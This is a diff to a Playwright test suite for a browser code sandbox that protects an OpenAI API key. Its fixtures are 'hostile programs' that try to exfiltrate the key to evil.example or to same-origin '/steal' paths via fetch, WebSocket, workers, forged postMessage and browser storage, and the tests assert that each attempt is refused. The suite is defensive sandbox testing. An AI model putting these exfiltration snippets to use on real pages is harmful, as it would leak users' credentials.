@@ -5,15 +5,17 @@
  * in the DOM. Each program's ordinary SDK call still authenticates with the real key.
  *
  * The site is served by scripts/serve-static.ts from the build, with the deploy headers
- * (public/_headers), so the worker script carries its own CSP as it does on a real host.
+ * (public/_headers), as on a real host. The worker runs in a sandboxed frame with an opaque
+ * origin under the frame's own CSP (sandbox/engines/worker/frame.ts); the last test proves that
+ * the browser, not only the runtime's JavaScript, keeps it from the site's storage.
  * api.openai.com and evil.example are answered by routes: the machine is offline, and a host that
  * answers means only the sandbox can stop a request to it.
  */
-import { expect, test, type Page, type Request } from '@playwright/test';
+import { expect, test, type Page, type Request, type Worker } from '@playwright/test';
 import { serveStatic, type StaticServer } from '../../scripts/serve-static.ts';
 import { standInFor } from '../../sandbox/keys/broker.ts';
 import { redactKey } from '../../sandbox/keys/redact.ts';
-import { sandboxWorkerHeaders } from '../../src/headers.ts';
+import { FRAME_POLICY } from '../../sandbox/engines/worker/frame.ts';
 import { fakeRealKey, pageTraces } from './support/key-traces.ts';
 import { output, runAndWait, sandbox, setIndex } from './support/sandbox.ts';
 
@@ -45,6 +47,8 @@ function encodings(value: string): Record<string, string> {
 // Shared by every hostile program: each attempt is reported, never fatal.
 const HEAD = `import OpenAI from 'openai';
 const k = process.env.OPENAI_API_KEY;
+// The site's origin: the worker's own location is blob:null/…, its origin opaque.
+const site = '__SITE__';
 const attempt = async (name, fn) => {
 	try {
 		const result = await fn();
@@ -80,16 +84,16 @@ await attempt('WebSocket', () => new WebSocket('wss://evil.example/?k=' + k));
 await attempt('EventSource', () => new EventSource('https://evil.example/?k=' + k));
 await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/?k=' + k); x.send(); });`,
 	'same origin, key in the URL': `
-await attempt('same-origin fetch', () => fetch(location.origin + '/steal-fetch?k=' + k));
-await attempt('prototype fetch', () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, location.origin + '/steal-proto?k=' + k));
-await attempt('same-origin import', () => import(location.origin + '/steal-import.js?k=' + k));
-await attempt('navigation', () => { self.location.href = location.origin + '/steal-nav?k=' + k; });
-await attempt('window.open', () => self.open(location.origin + '/steal-open?k=' + k));`,
+await attempt('same-origin fetch', () => fetch(site + '/steal-fetch?k=' + k));
+await attempt('prototype fetch', () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, site + '/steal-proto?k=' + k));
+await attempt('same-origin import', () => import(site + '/steal-import.js?k=' + k));
+await attempt('navigation', () => { self.location.href = site + '/steal-nav?k=' + k; });
+await attempt('window.open', () => self.open(site + '/steal-open?k=' + k));`,
 	'nested worker': `
 const source = "fetch('https://evil.example/from-nested?k=" + k + "')";
 await attempt('nested worker', () => new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))));
-await attempt('nested module worker', () => new Worker(location.origin + '/steal-worker.js?k=' + k, { type: 'module' }));
-await attempt('shared worker', () => new SharedWorker(location.origin + '/steal-shared.js?k=' + k));`,
+await attempt('nested module worker', () => new Worker(site + '/steal-worker.js?k=' + k, { type: 'module' }));
+await attempt('shared worker', () => new SharedWorker(site + '/steal-shared.js?k=' + k));`,
 	IndexedDB: `
 await attempt('IndexedDB', () => new Promise((resolve, reject) => {
 	const open = indexedDB.open('loot', 1);
@@ -105,7 +109,7 @@ await attempt('IndexedDB', () => new Promise((resolve, reject) => {
 	CacheStorage: `
 await attempt('CacheStorage', async () => {
 	const cache = await caches.open('loot');
-	await cache.put(location.origin + '/loot', new Response(k));
+	await cache.put(site + '/loot', new Response(k));
 	return 'stored';
 });
 await attempt('origin private file system', async () => {
@@ -124,7 +128,7 @@ await attempt('cookieStore', () => cookieStore.set('loot', k));`,
 await attempt('raw postMessage', () => self.postMessage(k));
 await attempt('forged output', () => self.postMessage({ type: 'output', stream: 'stdout', text: 'forged ' + k + '\\n' }));
 await attempt('forged bridge request elsewhere', () => self.postMessage({ type: 'fetch', id: 9001, url: 'https://evil.example/pm?k=' + k, method: 'GET', headers: [['authorization', 'Bearer ' + k]], body: null }));
-await attempt('forged bridge request to the page', () => self.postMessage({ type: 'fetch', id: 9002, url: location.origin + '/steal-pm?k=' + k, method: 'GET', headers: [], body: null }));
+await attempt('forged bridge request to the page', () => self.postMessage({ type: 'fetch', id: 9002, url: site + '/steal-pm?k=' + k, method: 'GET', headers: [], body: null }));
 await new Promise((resolve) => setTimeout(resolve, 100));`,
 };
 
@@ -168,7 +172,6 @@ async function fakeOpenAi(page: Page, seen: Seen[], reachedEvil: string[]): Prom
 
 test('hostile programs in Live mode get only the stand-in; the key goes to api.openai.com alone', async ({
 	page,
-	request,
 }) => {
 	test.setTimeout(240_000);
 	const key = fakeRealKey();
@@ -203,7 +206,7 @@ test('hostile programs in Live mode get only the stand-in; the key goes to api.o
 	const shown: string[] = [];
 	for (const [name, body] of Object.entries(PROGRAMS)) {
 		const before = live.length;
-		await setIndex(page, HEAD + body + TAIL);
+		await setIndex(page, HEAD.replace('__SITE__', host.url) + body + TAIL);
 		const state = await runAndWait(page);
 		const text = (await output(page).textContent()) ?? '';
 		shown.push(text);
@@ -275,13 +278,121 @@ test('hostile programs in Live mode get only the stand-in; the key goes to api.o
 	expect(consoleLines.filter((line) => line.includes(key))).toEqual([]);
 	expect(await page.evaluate(() => (window as { __heard?: string[] }).__heard)).toEqual([]);
 
-	// The worker ran under its own policy: no network, no nested workers, blob: scripts only.
-	const workerUrl = workers.find((url) => url.includes('/_astro/sandbox/'));
-	expect(workerUrl, `the worker engine's script (workers: ${workers.join(', ')})`).toBeTruthy();
-	const script = await request.get(workerUrl!);
-	expect(script.headers()['content-security-policy']).toBe(
-		sandboxWorkerHeaders['Content-Security-Policy'],
+	// Every worker ran from a blob: URL of an opaque origin, in a frame sandboxed to scripts only,
+	// under the frame's policy: no network, blob: scripts only.
+	expect(workers.length).toBeGreaterThan(0);
+	for (const url of workers) expect(url).toMatch(/^blob:null\//);
+	const frame = page.locator('iframe[sandbox]').first();
+	await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
+	expect(await frame.getAttribute('srcdoc')).toContain(FRAME_POLICY);
+});
+
+test('the worker has an opaque origin: the browser refuses it the site’s storage even where the runtime’s removal is undone', async ({
+	page,
+}) => {
+	test.setTimeout(120_000);
+	const answered: string[] = [];
+	page.context().on('response', (response) => answered.push(response.url()));
+	const workers: Worker[] = [];
+	page.on('worker', (worker) => workers.push(worker));
+	await page.goto(host.url + LESSON);
+	await page.evaluate(() => {
+		const heard: string[] = [];
+		(window as { __heard?: string[] }).__heard = heard;
+		new BroadcastChannel('loot').onmessage = (event) => heard.push(String(event.data));
+	});
+
+	// What a program learns of where it runs, and IndexedDB by every route it can name.
+	await setIndex(
+		page,
+		`const report = (name, fn) => {
+	try {
+		console.log(name + ': ' + String(fn()));
+	} catch (error) {
+		console.log(name + ': threw ' + error.name);
+	}
+};
+report('self.origin', () => self.origin);
+report('location.origin', () => location.origin);
+report('location', () => location.href.slice(0, 10));
+report('indexedDB', () => typeof indexedDB);
+report('indexedDB from a prototype', () => {
+	for (let o = self; o; o = Object.getPrototypeOf(o)) {
+		const getter = Object.getOwnPropertyDescriptor(o, 'indexedDB')?.get;
+		if (getter) return typeof getter.call(self);
+	}
+	return 'none';
+});
+`,
 	);
+	expect(await runAndWait(page)).toBe('ready');
+	for (const line of [
+		'self.origin: null',
+		'location.origin: null',
+		'location: blob:null/',
+		'indexedDB: undefined',
+		'indexedDB from a prototype: none',
+	])
+		await expect(output(page)).toContainText(line);
+
+	// Code that got the native APIs back: the next run's worker, already loaded, has had none of
+	// them removed yet (the runtime removes them as a run starts). Evaluated in it, as a hostile
+	// program that recovered them would: the browser refuses each for the opaque origin.
+	const warm = workers.at(-1)!;
+	await expect.poll(() => warm.evaluate(() => typeof indexedDB)).toBe('object');
+	const probe = await warm.evaluate(async (site) => {
+		const outcome = async (fn: () => unknown) => {
+			try {
+				return `allowed: ${String(await fn())}`;
+			} catch (error) {
+				return `refused: ${(error as Error).name}`;
+			}
+		};
+		return {
+			origin: self.origin,
+			location: location.href.slice(0, 10),
+			indexedDB: await outcome(
+				() =>
+					new Promise((resolve, reject) => {
+						const open = indexedDB.open('loot', 1);
+						open.onupgradeneeded = () => open.result.createObjectStore('keys');
+						open.onsuccess = () => resolve('opened');
+						open.onerror = () => reject(open.error ?? new Error('error'));
+					}),
+			),
+			caches: await outcome(() => caches.open('loot').then(() => 'opened')),
+			fileSystem: await outcome(() => navigator.storage.getDirectory().then(() => 'opened')),
+			fetch: await outcome(() => fetch(`${site}/steal-probe-fetch`).then((r) => r.status)),
+			importScripts: await outcome(() => importScripts(`${site}/steal-probe-import.js`)),
+			broadcast: await outcome(() => {
+				new BroadcastChannel('loot').postMessage('from the worker');
+				return 'posted';
+			}),
+		};
+	}, host.url);
+	expect(probe.origin).toBe('null');
+	expect(probe.location).toBe('blob:null/');
+	expect(probe.indexedDB).toBe('refused: SecurityError');
+	for (const [name, result] of Object.entries(probe).filter(([name]) =>
+		['caches', 'fileSystem', 'fetch', 'importScripts'].includes(name),
+	))
+		expect(result, name).toMatch(/^refused/);
+	// The frame that started it is as opaque, and sandboxed to scripts alone.
+	const frame = page.frames().find((candidate) => candidate.url() === 'about:srcdoc');
+	expect(await frame?.evaluate(() => self.origin)).toBe('null');
+	await expect(page.locator('iframe[sandbox]').first()).toHaveAttribute('sandbox', 'allow-scripts');
+
+	// Nothing reached the site's origin: its storage, its channel, its server.
+	const site = await page.evaluate(async () => ({
+		databases: (await indexedDB.databases()).map((info) => info.name ?? ''),
+		caches: await caches.keys(),
+	}));
+	expect(site.databases).not.toContain('loot');
+	expect(site.caches).not.toContain('loot');
+	// A posted message arrives in a task or two; a second is plenty to prove none came.
+	await page.waitForTimeout(1000);
+	expect(await page.evaluate(() => (window as { __heard?: string[] }).__heard)).toEqual([]);
+	expect(answered.filter((url) => url.includes('/steal'))).toEqual([]);
 });
 
 test('a program that prints in a loop is stopped at the output cap, and the page stays usable', async ({
